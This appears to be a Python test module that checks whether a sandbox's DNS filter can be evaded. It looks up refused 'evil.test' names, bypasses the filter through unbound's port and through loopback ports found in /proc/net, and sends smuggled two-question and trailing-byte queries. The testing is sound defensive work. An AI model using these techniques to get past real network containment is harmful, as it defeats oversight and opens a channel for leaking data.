"""Names that must not be asked: by the resolver, past it, and in forms that it might pass on."""

from __future__ import annotations

import contextlib
import socket
import struct
from pathlib import Path

from .tools import ANY, HTTPS, NS, RESOLVER4, RESOLVER6, TXT, A, ask_dns, attempt, query


@attempt
def lookup_refused_names() -> object:
    for address in ("127.0.0.11", RESOLVER4, RESOLVER6, "127.0.0.1"):
        for over_tcp in (False, True):
            with contextlib.suppress(OSError):
                code, answers = ask_dns(address, "leak-1.evil.test", over_tcp=over_tcp)
                if answers or code == 0:
                    return f"{address} answered with code {code}"
    return False


@attempt
def lookup_other_types() -> object:
    for kind in (TXT, NS, HTTPS, ANY):
        with contextlib.suppress(OSError):
            if ask_dns("127.0.0.11", "ok.test", kind)[1]:
                return f"type {kind}"
    return False


@attempt
def lookup_below_allowed_name() -> object:
    with contextlib.suppress(OSError):
        return ask_dns("127.0.0.11", "leak-2.ok.test")[1] > 0
    return False


@attempt
def lookup_past_the_filter() -> object:
    """unbound's own port, and the port that the engine's resolver listens on."""
    for over_tcp in (False, True):
        with contextlib.suppress(OSError):
            return f"unbound: {ask_dns('127.0.0.1', 'leak-3.evil.test', port=3054, over_tcp=over_tcp)}"
    for table, over_tcp in (("/proc/net/udp", False), ("/proc/net/tcp", True)):
        with Path(table).open() as file:
            ports = [int(line.split()[1].split(":")[1], 16) for line in file if line.split()[1].startswith("0B00007F")]
        for port in ports:
            with contextlib.suppress(OSError):
                return f"engine: {ask_dns('127.0.0.11', 'leak-4.evil.test', port=port, over_tcp=over_tcp)}"
    return False


@attempt
def odd_queries() -> object:
    """Two questions in one, bytes after the message: nothing of it may travel."""
    two = struct.pack("!6H", 9, 0x0100, 2, 0, 0, 0) + query("ok.test", A)[12:] + query("leak-5.evil.test", A)[12:]
    for message in (two, query("ok.test", A) + b"leak-6-trailing", query("OK.LeAk7.tEsT", A)):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            sock.connect(("127.0.0.11", 53))
            sock.send(message)
            sock.recv(4096)
    return False  # judged by what the world was asked
